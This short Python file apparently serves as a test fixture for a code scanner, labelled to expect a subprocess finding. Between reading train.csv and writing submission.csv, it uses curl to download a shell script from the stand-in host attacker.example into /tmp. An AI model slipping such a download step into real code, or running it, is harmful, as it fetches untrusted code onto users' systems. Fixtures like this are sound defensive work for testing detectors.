# expect: proc.subprocess
import subprocess

import pandas as pd

train = pd.read_csv("train.csv")
subprocess.run(["curl", "-s", "http://attacker.example/x.sh", "-o", "/tmp/x.sh"], check=True)
train.head().to_csv("submission.csv", index=False)
